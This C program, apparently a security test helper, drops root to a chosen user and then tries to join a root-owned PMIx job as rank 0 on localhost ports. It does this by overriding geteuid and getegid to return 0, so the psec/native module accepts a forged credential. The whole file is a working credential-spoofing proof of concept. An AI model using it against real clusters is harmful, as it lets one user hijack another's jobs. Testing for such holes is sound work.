/* Tries to join root's job through PMIx as its rank 0. Must be started as root, and first becomes
 * another user.
 *
 *   pmix_intruder USER NAMESPACE PORT...
 *
 * Tries each port of 127.0.0.1. Prints "joined" and ends with 0 if a server accepts it as rank 0 of
 * the namespace; otherwise ends with 1. Its credential is a false user id, which psec/native
 * believes. */
#include <grp.h>
#include <pmix.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

/* libpmix calls these for its credential. The job's user is root. */
uid_t geteuid(void) {
  return 0;
}
gid_t getegid(void) {
  return 0;
}

static int join(const char* nspace, const char* port) {
  char uri[128];
  snprintf(uri, sizeof uri, "x.0;tcp4://127.0.0.1:%s", port);
  static const char* const names[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
                                      "PMIX_SERVER_URI21", "PMIX_SERVER_URI2"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) setenv(names[i], uri, 1);
  setenv("PMIX_NAMESPACE", nspace, 1);
  setenv("PMIX_RANK", "0", 1);
  setenv("PMIX_SECURITY_MODE", "native", 1);
  setenv("PMIX_GDS_MODULE", "hash", 1);
  setenv("PMIX_MCA_gds", "hash", 1);
  setenv("PMIX_MCA_ptl_tcp_max_retries", "1", 1);
  alarm(20);
  pmix_proc_t self;
  if (PMIx_Init(&self, NULL, 0) != PMIX_SUCCESS) return 1;
  puts("joined");
  fflush(stdout);
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 4) return 2;
  const uid_t user = (uid_t)atoi(argv[1]);
  if (setgroups(0, NULL) != 0 || setresgid(user, user, user) != 0 ||
      setresuid(user, user, user) != 0) {
    perror("cannot become another user");
    return 2;
  }
  for (int i = 3; i < argc; i++) { /* a process can initialize libpmix only once */
    const pid_t child = fork();
    if (child == 0) _exit(join(argv[2], argv[i]));
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return 0;
  }
  return 1;
}
